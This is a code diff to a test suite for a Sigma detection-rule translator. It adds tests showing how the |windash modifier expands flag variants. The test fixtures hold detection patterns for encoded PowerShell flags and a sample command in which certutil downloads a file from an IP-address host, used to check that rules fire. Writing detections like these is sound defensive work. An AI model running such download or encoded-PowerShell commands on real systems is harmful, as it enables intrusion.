@@ -723,17 +723,17 @@ describe("Sigma → rejection, with a reason naming what cannot be evaluated", (
       ],
     },
     {
-      name: "windash and encoding modifiers, and a modifier Sigma does not have",
+      name: "windash on a field that is not text, encoding modifiers, and a modifier Sigma does not have",
       yaml: y`
         ${CLOUDTRAIL}detection:
           selection:
-            userAgent|windash: '-enc'
+            sourceIPAddress|windash: '-enc'
             eventName|base64offset|contains: 'Stop'
             errorCode|fuzzy: x
           condition: selection
       `,
       problems: [
-        "UNSUPPORTED_MODIFIER detection.selection.userAgent|windash: |windash is not supported: expands - and / variants of Windows command-line flags, which our fields do not carry",
+        "UNSUPPORTED_MODIFIER detection.selection.sourceIPAddress|windash: |windash applies to text; sourceIPAddress is not text",
         "UNSUPPORTED_MODIFIER detection.selection.eventName|base64offset|contains: |base64offset is not supported: encoded values are not supported",
         "UNSUPPORTED_MODIFIER detection.selection.errorCode|fuzzy: |fuzzy is not a Sigma modifier Rampart supports",
       ],
@@ -1111,6 +1111,62 @@ describe("Sigma → Windows process creation (Sysmon event 1 semantics over 4688
       false,
     );
     expect(fires("    CommandLine|endswith: '\\users\\public\\SVC.EXE'", certutil)).toBe(true);
+  });
+
+  it("expands |windash as pySigma does: a flag's leading - or / as -, /, en dash, em dash or horizontal bar", () => {
+    const encoded = (cmd: string) =>
+      created("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd);
+    const selection = "    CommandLine|windash|contains:\n      - ' -enc '\n      - ' -ec '";
+    const result = one(`${PROCESS_CREATION}detection:\n  selection:\n${selection}\n  condition: selection\n`);
+    expect(result.problems).toEqual([]);
+    const contains = (value: string) => ({
+      field: "attributes.event_data.CommandLine",
+      op: "contains",
+      value,
+    });
+    expect(result.spec!.filter).toEqual({
+      all: [
+        connector("WINDOWS_SECURITY"),
+        { field: "class_uid", op: "eq", value: 1007 },
+        {
+          any: [" -enc ", " /enc ", " \u2013enc ", " \u2014enc ", " \u2015enc "]
+            .concat([" -ec ", " /ec ", " \u2013ec ", " \u2014ec ", " \u2015ec "])
+            .map(contains),
+        },
+      ],
+    });
+    for (const cmd of [
+      "powershell -ENC SQBFAFgA",
+      "powershell /enc SQBFAFgA",
+      "powershell \u2013ec SQBFAFgA",
+    ]) {
+      expect([cmd, fires(selection, encoded(cmd))]).toEqual([cmd, true]);
+    }
+    expect(fires(selection, encoded("powershell +enc SQBFAFgA"))).toBe(false);
+    // Each value in one of its variants with |all; a dash inside a word stays as it is.
+    const certutil = created(
+      "C:\\Windows\\System32\\certutil.exe",
+      "certutil /urlcache /split /f http://198.51.100.23/x.bin",
+    );
+    const all = "    CommandLine|windash|contains|all:\n      - '-urlcache '\n      - ' -f '";
+    expect(fires(all, certutil)).toBe(true);
+    expect(fires(all, created("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split"))).toBe(
+      false,
+    );
+    expect(
+      one(`${PROCESS_CREATION}detection:\n  sel:\n    Image|windash: 'C:\\x-y\\z.exe'\n  condition: sel\n`)
+        .spec!.filter,
+    ).toMatchObject({
+      all: [{}, {}, { field: "attributes.event_data.NewProcessName", op: "eq", value: "C:\\x-y\\z.exe" }],
+    });
+    expect(
+      rejection(
+        `${PROCESS_CREATION}detection:\n  sel:\n    CommandLine|windash|contains: ' -a -b -c -d'\n    ProcessId|windash: 4\n  condition: sel\n`,
+      ),
+    ).toEqual([
+      'UNSUPPORTED_VALUE detection.sel.CommandLine|windash|contains: |windash: " -a -b -c -d" has 4 flags; at most 3 expand (125 values)',
+      "UNSUPPORTED_MODIFIER detection.sel.ProcessId|windash: |windash applies to text; ProcessId is not text",
+    ]);
   });
 
   it("compares process ids as Sysmon writes them, in decimal (4688 writes hex)", () => {
